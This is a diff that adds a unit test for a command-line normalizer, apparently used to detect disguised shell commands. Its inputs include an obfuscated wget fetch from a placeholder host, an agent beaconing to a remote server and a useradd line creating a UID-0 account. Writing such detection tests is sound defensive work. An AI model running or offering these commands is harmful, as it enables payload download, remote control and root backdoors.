@@ -26,6 +26,21 @@ class CommandLineNormalizerTest {
     }
 
     @Test
+    void programsThatOnlyRunTheNextCommandAreTakenOutInAReadingOfTheirOwn() {
+        assertThat(CommandLineNormalizer.readings("sudo $(echo d2dldA== | base64 -d) -qO- x.example/b", false, false))
+                .contains("$(echo d2dlda== | base64 -d) -qo- x.example/b");
+        assertThat(CommandLineNormalizer.readings("timeout 60 nohup ./agent -server http://x:8888 &", false, false))
+                .contains("./agent -server http://x:8888 &");
+        assertThat(CommandLineNormalizer.readings("sudo -u www-data env -i PATH=/bin X=1 nice -n 5 id; /usr/bin/sudo -E ls", false, false))
+                .contains("id; ls");
+        // an option that takes no value does not swallow the command; a lookup is no runner
+        assertThat(CommandLineNormalizer.readings("sudo -H pip install x", false, false)).contains("pip install x");
+        assertThat(CommandLineNormalizer.readings("command -v nc", false, false)).containsExactly("command -v nc");
+        // a runner's name inside a word or an argument is not one
+        assertThat(CommandLineNormalizer.readings("echo sudoers timeout=5 nohup.out", false, false)).hasSize(1);
+    }
+
+    @Test
     void theCasedReadingUndoesTheSameTricksAndKeepsTheCase() {
         assertThat(CommandLineNormalizer.normalizeCased("u''seradd  -o -u 0 \"-G\" Sudo", false))
                 .isEqualTo("useradd -o -u 0 -G Sudo");
